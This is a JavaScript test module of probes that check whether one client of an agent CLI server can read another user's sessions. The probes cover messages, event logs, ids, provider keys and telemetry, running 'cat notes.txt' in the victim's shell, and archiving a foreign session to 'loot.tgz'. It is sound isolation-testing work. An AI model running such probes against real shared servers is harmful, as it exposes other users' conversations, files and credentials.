// Probes that read what is the victim's: contents, ids, paths, or only that something exists.
// The form of a probe is told in probe.mjs.
import fs from "node:fs";
import path from "node:path";
import { randomUUID } from "node:crypto";
import { folder } from "../lib/processes.mjs";
import { until } from "../lib/wait.mjs";
import { asks, ok, told, toldApart } from "./probe.mjs";

const byId = (method, target, more = {}) =>
  asks(`${method} of a ${target} session`, method, { target, params: ({ id }) => ({ sessionId: id, ...more }) });

const enrich = ({ id }) => ({
  sessions: [{ sessionId: id, startTime: "2026-01-01T00:00:00Z", modifiedTime: "2026-01-01T00:00:00Z", isRemote: false }],
});

const contents = [
  byId("session.getMetadata", "live"),
  byId("session.getMessages", "reader"),
  byId("sessions.getMetadata", "stored"),
  byId("sessions.readPersistedEvents", "stored"),
  byId("sessions.readPersistedEvents", "live"),
  byId("session.eventLog.read", "reader"),
  byId("session.eventLog.read", "busy", { includeEphemeral: true, types: "*" }),
  byId("session.metadata.snapshot", "live"),
  byId("session.history.listRewindPoints", "live"),
  byId("session.permissions.pendingRequests", "permission"),
  byId("session.permissions.paths.list", "live"),
  byId("session.workspaces.getWorkspace", "live"),
  asks("the file in the workspace, by a shell", "session.shell.exec", {
    target: "live",
    params: ({ id }) => ({ sessionId: id, command: "cat notes.txt", cwd: undefined }),
    bites: ({ answer, stranger, target }) => ok(answer) && (told({ answer, stranger, target }) || stranger.overheard("file-")),
    bare: "any",
  }),
  asks("the file in the workspace, by a shell of the user", "session.shell.executeUserRequested", {
    target: "live",
    params: ({ id }) => ({ sessionId: id, requestId: randomUUID(), command: "cat notes.txt" }),
    twin: "another request",
  }),
  asks("a question aside, with the victim's key and history", "session.ui.ephemeralQuery", {
    target: "live",
    params: ({ id }) => ({ sessionId: id, question: "what did I say?" }),
    bites: ({ answer }) => ok(answer),
  }),
  asks("the end-point and the key of the provider", "session.provider.getEndpoint", {
    target: "live",
    params: ({ id }) => ({ sessionId: id }),
    bare: "holds", // unless the CLI's environment allows it
  }),
];

const lists = [
  asks("session.list", "session.list", { target: "live" }),
  asks("session.list by workspace", "session.list", {
    target: "live",
    params: ({ victim }) => ({ filter: { cwd: victim.cwd } }),
  }),
  asks("sessions.list", "sessions.list", { target: "live" }),
  asks("sessions.list with the detached", "sessions.list", {
    target: "stored",
    params: () => ({ source: "all", includeDetached: true, metadataLimit: 1_000 }),
  }),
  asks("session.getLastId", "session.getLastId", { target: "live" }),
  asks("sessions.getLastForContext", "sessions.getLastForContext", {
    target: "live",
    params: ({ victim }) => ({ context: { cwd: victim.cwd } }),
  }),
  asks("sessions.listNonEmptySessionIds", "sessions.listNonEmptySessionIds", { target: "live" }),
  asks("sessions.getSizes", "sessions.getSizes", { target: "live" }),
  asks("sessions.findByTaskId", "sessions.findByTaskId", {
    target: "live",
    params: ({ toolCallId }) => ({ taskId: toolCallId }),
    bare: "holds",
  }),
  asks("sessions.pruneOld as a dry run", "sessions.pruneOld", {
    target: "live",
    params: () => ({ olderThanDays: 0, dryRun: true, includeNamed: true }),
  }),
  ...[7, 8, 12, 13, 35].map((length) =>
    asks(`sessions.findByPrefix with ${length} characters`, "sessions.findByPrefix", {
      target: "uuid",
      params: ({ id }) => ({ prefix: id.slice(0, length) }),
      bites: ({ answer, target }) => answer.result?.sessionId === target.id,
    })),
];

/** What the server as a whole tells of its host, its settings and its account. */
const serverWide = [
  asks("instructions.discover reads files of any directory", "instructions.discover", {
    target: "live",
    params: ({ victim }) => {
      const project = path.join(victim.cwd, "project");
      fs.mkdirSync(project, { recursive: true });
      fs.writeFileSync(path.join(project, "AGENTS.md"), `rules-${victim.marker}\n`);
      return { projectPaths: [project] };
    },
    twin: "the directory is the victim's for both",
    wall: "the CLIs share a host",
  }),
  ...["user.settings.get", "skills.getDiscoveryPaths"].map((method) =>
    asks(`${method} tells of the host`, method, {
      bites: ({ answer }) => ok(answer),
      wall: "a CLI tells it to anybody",
    })),
];

/** Each tells a session that is there from one that is not. */
const oracles = [
  ...["session.mode.get", "session.name.get", "session.metadata.isProcessing", "session.model.getCurrent"].map((method) =>
    asks(`${method} tells that a session is live`, method, {
      target: "empty",
      params: ({ id }) => ({ sessionId: id }),
      bites: toldApart,
    })),
  asks("sessions.checkInUse tells that a session is live", "sessions.checkInUse", {
    target: "live",
    params: ({ id }) => ({ sessionIds: [id] }),
    bites: ({ answer }) => answer.result?.inUse?.length > 0,
    bare: "any",
  }),
  asks("sessions.enrichMetadata reads a session's files", "sessions.enrichMetadata", {
    target: "live",
    params: enrich,
    bites: toldApart,
  }),
  asks("sessions.getClientMetadata tells that a session is there", "sessions.getClientMetadata", {
    target: "live",
    params: ({ id }) => ({ sessionIds: [id] }),
    bites: toldApart,
  }),
  asks("sessions.getEventFilePath gives a path of the server", "sessions.getEventFilePath", {
    target: "stored",
    params: ({ id }) => ({ sessionId: id }),
    bites: ({ answer }) => JSON.stringify(answer.result ?? "").includes("/"),
    wall: "a CLI gives a path for any id",
  }),
  asks("session.plan.read gives a path of the server", "session.plan.read", {
    target: "live",
    params: ({ id }) => ({ sessionId: id }),
    bites: ({ answer }) => JSON.stringify(answer.result ?? "").includes("/"),
  }),
  ...["session.detach", "session.destroy", "session.delete", "session.resume", "session.abort"].map((method) =>
    asks(`${method} of an unknown session is answered as of any unknown one`, method, {
      target: "nobody",
      params: ({ id }) => ({ sessionId: id }),
      bites: toldApart,
      bare: "holds",
    })),
];

const hasTelemetry = ({ stranger }) =>
  stranger.heard.some(({ text }) => text.includes("gitHubTelemetry.event") && text.includes(stranger.met.marker));

async function anothersTurn(stranger, site, ms) {
  stranger.met = await (await site.newcomer()).target("live");
  await until("it comes", () => hasTelemetry({ stranger }), { ms }).catch(() => {});
}

const broadcasts = [
  {
    name: "lifecycle broadcasts tell of new sessions",
    run: async (stranger, target, site, ms) => {
      stranger.met = await (await site.newcomer()).target("empty");
      await until("it is told", () => stranger.overheard(stranger.met.id), { ms }).catch(() => {});
    },
    bites: ({ stranger }) => stranger.overheard(stranger.met.marker),
  },
  {
    name: "host events tell of tools in use",
    target: "permission",
    run: async (stranger, target) => {
      await target.clean();
      await target.turn.catch(() => {});
    },
    bites: ({ stranger }) => stranger.heard.some(({ message }) => message?.method === "host.event"),
    bare: "any",
    spent: true,
    twin: "nothing is asked",
  },
  {
    name: "telemetry of everybody comes to who asks for it in connect",
    connect: { enableGitHubTelemetryForwarding: true },
    run: (stranger, target, site, ms) => anothersTurn(stranger, site, ms),
    bites: hasTelemetry,
  },
  {
    name: "telemetry of everybody comes to who asks for it in create",
    run: async (stranger, target, site, ms) => {
      const mine = { ...stranger.config(randomUUID()), enableGitHubTelemetryForwarding: true };
      await stranger.ask("session.create", mine);
      await anothersTurn(stranger, site, ms);
    },
    bites: hasTelemetry,
    bare: "holds",
  },
];

const files = [
  {
    name: "session.debug.collectLogs packs a foreign session into a file of the stranger's choice",
    target: "live",
    run: async (stranger, { id }) => {
      stranger.loot ??= path.join(folder("loot"), "loot.tgz");
      const destination = { kind: "archive", outputPath: stranger.loot };
      await stranger.ask("session.debug.collectLogs", { sessionId: id, destination });
    },
    bites: ({ stranger }) => fs.existsSync(stranger.loot),
    twin: "another request",
  },
  {
    name: "sessions.fork copies a foreign conversation",
    target: "live",
    run: async (stranger, { id }) => {
      const { result } = await stranger.ask("sessions.fork", { sessionId: id });
      if (result?.sessionId === undefined) return;
      await stranger.ask("session.resume", stranger.config(result.sessionId));
      await stranger.ask("session.getMessages", { sessionId: result.sessionId });
    },
    bites: ({ stranger, target }) => told({ answer: stranger.asked.at(-1).answer, stranger, target }),
  },
  {
    name: "session.mode.set takes a foreign session as the base of its plan",
    target: "live",
    run: async (stranger, { id }) => {
      const sessionId = await stranger.own();
      await stranger.ask("session.mode.set", { sessionId, mode: "plan", inheritPlanBaseFromSessionId: id });
    },
    bites: toldApart,
    bare: "any",
  },
];

export const reading = [...contents, ...lists, ...serverWide, ...oracles, ...broadcasts, ...files];
